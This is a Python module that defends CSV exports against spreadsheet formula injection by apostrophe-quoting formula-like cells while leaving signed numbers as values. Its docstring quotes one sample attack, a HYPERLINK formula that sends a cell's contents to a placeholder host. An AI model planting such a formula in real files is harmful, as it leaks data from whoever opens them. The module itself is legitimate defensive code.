"""CSV cells a spreadsheet will not run (OWASP "CSV injection"). Pure Python: the rate-deck parser uses it too.

Excel, LibreOffice and Google Sheets take a cell beginning with = + - @ (or a TAB or CR before one) for a
formula, so a customer name or a provider's rate-deck name such as `=HYPERLINK("http://x/?"&A1,"Click")` would
run on the desk of whoever opens the export. Such a cell is written with a leading apostrophe, which the
spreadsheets show as text and hide. Numbers stay numbers: -1.5 and +44 are values, not formulas.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from decimal import Decimal
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"
# A plain signed decimal number ("-5", "+44", "0.010000", "-1.5e3"): a spreadsheet reads it as a value.
_NUMBER = re.compile(r"[+-]?(\d+(?:\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def _is_formula(text: str) -> bool:
    return text.startswith(FORMULA_STARTS) and not _NUMBER.fullmatch(text)


def safe_cell(value: Any) -> Any:
    """The value as a CSV writer should get it: numbers unchanged, formula-like text behind an apostrophe.

    Text that already starts with apostrophes before a formula character gets one more, so unquote_cell() gives
    back exactly what was exported ("'=x" is written "''=x" and reads back as "'=x")."""
    if value is None or isinstance(value, bool | int | float | Decimal):
        return value
    text = str(value)
    if _is_formula(text.lstrip(QUOTE)):
        return QUOTE + text
    return text


def safe_row(values: Iterable[Any]) -> list[Any]:
    return [safe_cell(value) for value in values]


def unquote_cell(text: str) -> str:
    """A cell as safe_cell() wrote it, back as it was: for imports that read our own exports."""
    if text.startswith(QUOTE) and _is_formula(text.lstrip(QUOTE)):
        return text[1:]
    return text
